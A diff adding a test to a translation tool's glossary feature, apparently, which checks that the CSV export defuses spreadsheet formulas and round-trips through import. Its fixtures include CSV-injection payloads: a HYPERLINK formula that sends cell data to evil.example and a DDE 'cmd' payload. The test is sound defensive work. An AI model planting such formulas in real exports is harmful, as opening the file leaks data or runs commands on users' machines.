@@ -55,6 +55,37 @@ describe('the glossary', () => {
     expect(await list()).toHaveLength(2);
   });
 
+  it('neutralises spreadsheet formulas in the CSV export and reads its own export back unchanged', async () => {
+    const dangerous = [
+      { source: '=HYPERLINK("http://evil.example/?"&A1,"cliquez")', target: 'click', notes: '=1+1' },
+      { source: "+cmd|' /C calc'!A0", target: 'calculator', notes: '' },
+      { source: '@SUM(1+1)', target: '@mention', notes: '-2+3+cmd' },
+      { source: '-ième', target: '-th', notes: 'suffixe ordinal' },
+      { source: "'=déjà protégé", target: "'quoted'", notes: '' },
+    ];
+    for (const term of dangerous) expect((await send('POST', `/api/projects/${projectId}/glossary`, term)).status).toBe(201);
+    const csv = await (await t.app.request(`/api/projects/${projectId}/glossary/export?format=csv`)).text();
+    const cells = csv
+      .trim()
+      .split('\n')
+      .slice(1)
+      .flatMap((line) => line.split(','))
+      .map((cell) => cell.replace(/^"/u, ''));
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/u);
+    expect(csv).toContain("'-ième,'-th,suffixe ordinal");
+    expect(csv).toContain("'+cmd|' /C calc'!A0,calculator,");
+
+    // The same terms in another project, from the export alone.
+    const other = (await t.services.projects.create({ name: 'Copie' }, undefined, { name: 'camille' })).id;
+    const form = new FormData();
+    form.append('file', new File([csv], 'glossary.csv'));
+    expect(await (await t.app.request(`/api/projects/${other}/glossary/import`, { method: 'POST', body: form })).json()).toEqual({ added: 5, updated: 0 });
+    const copied = ((await (await t.app.request(`/api/projects/${other}/glossary`)).json()) as { items: { source: string; target: string; notes: string }[] }).items;
+    const pick = (terms: { source: string; target: string; notes: string }[]) =>
+      terms.map(({ source, target, notes }) => ({ source, target, notes })).sort((a, b) => a.source.localeCompare(b.source));
+    expect(pick(copied)).toEqual(pick(dangerous));
+  });
+
   it('goes to DeepL as a glossary with the translations, and again when it changes', async () => {
     const id = await importText(t.app, 'Le préfet a parlé.', 'txt', 'Brève', projectId);
     const [segment] = (await segmentsOf(t.app, id)).items;
